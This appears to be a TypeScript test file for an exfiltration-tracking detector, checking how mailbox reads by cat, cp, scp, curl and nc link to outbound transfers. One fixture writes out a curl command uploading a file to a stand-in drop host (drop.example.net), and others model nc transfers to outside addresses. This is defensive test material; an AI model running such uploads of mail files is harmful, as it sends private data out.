import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ProcessState } from '../../state/processes.ts';
import { cases, ran, read, taint } from './harvest-cases.test-support.ts';

test('a read that is only inferred gives way to one that was seen, and to no other', () => {
  const kept = cases();
  const [first, second, third] = [ran('/bin/cat'), ran('/bin/cat'), ran('/bin/cat')];
  kept.tell(read(first, '/var/mail/clerk', taint('a', 'inferred')));
  kept.tell(read(second, '/var/mail/clerk', taint('b', 'inferred')));
  assert.equal(kept.only.reads.get('/var/mail/clerk')?.pid, first.pid);
  kept.tell(read(third, '/var/mail/clerk', taint('c')));
  assert.equal(kept.only.reads.get('/var/mail/clerk')?.pid, third.pid);
  kept.tell(read(first, '/var/mail/clerk', taint('d')));
  assert.equal(kept.only.reads.get('/var/mail/clerk')?.pid, third.pid, 'the first that was seen stays');
});

test('of very many boxes the first are kept, and a read of them that is seen still counts', () => {
  const kept = cases();
  const cat = ran('/bin/cat');
  for (let i = 0; i < 100; i++) kept.tell(read(cat, `/var/mail/u${i}`, taint(`u${i}`, 'inferred')));
  assert.ok(kept.only.reads.size < 100);
  kept.tell(read(ran('/bin/cat'), '/var/mail/u0', taint('seen')));
  assert.equal(kept.only.reads.get('/var/mail/u0')?.taint.origin.strength, 'observed');
});

test("a copy or a transfer of which no read is known is nobody's", () => {
  const kept = cases();
  kept.tell({ kind: 'store.staged', process: ran('/bin/cp'), path: '/tmp/a', taint: taint('unknown') });
  kept.tell({ kind: 'store.transferred', process: ran('/usr/bin/scp'), destination: '', taint: taint('unknown') });
  assert.equal(kept.size(), 0);
});

const transferred = (process: ProcessState, destination: string, strength: 'observed' | 'inferred' = 'observed') => ({
  kind: 'store.transferred',
  process,
  destination,
  servedAt: '',
  strength,
  why: 'x',
  taint: taint('a'),
});

test('what a connection shows and arguments repeat is one transfer', () => {
  const kept = cases();
  const curl = ran('/usr/bin/curl', ['curl', '-T', 'a', 'http://drop.example.net/x']);
  kept.tell(read(curl, '/var/mail/clerk', taint('a')));
  kept.tell(transferred(curl, '203.0.113.66:80'));
  kept.tell(transferred(curl, '', 'inferred'));
  assert.deepEqual(
    kept.only.transfers.map(each => each.destination),
    ['203.0.113.66:80'],
  );
  kept.tell(transferred(curl, '203.0.113.67:80'));
  assert.equal(kept.only.transfers.length, 2, 'another place is another transfer');
});

test('of very many transfers the first are kept, and what is seen more surely of them replaces them', () => {
  const kept = cases();
  const nc = ran('/usr/bin/nc');
  kept.tell(read(nc, '/var/mail/clerk', taint('a')));
  for (let i = 0; i < 40; i++) kept.tell(transferred(nc, `203.0.113.${i}:9`, 'inferred'));
  const { length } = kept.only.transfers;
  assert.ok(length < 40);
  kept.tell(transferred(nc, '203.0.113.0:9'));
  assert.equal(kept.only.transfers.length, length);
  assert.equal(kept.only.transfers[0]?.strength, 'observed');
});

test('what leaves the host is watched only where it does not record connections itself', () => {
  const watched = (seen: readonly string[]): boolean => {
    const kept = cases({ seen });
    kept.tell(read(ran('/bin/cat'), '/var/mail/clerk'));
    return kept.only.watch !== null;
  };
  assert.equal(watched(['network.connected']), false);
  assert.equal(watched([]), true);
});
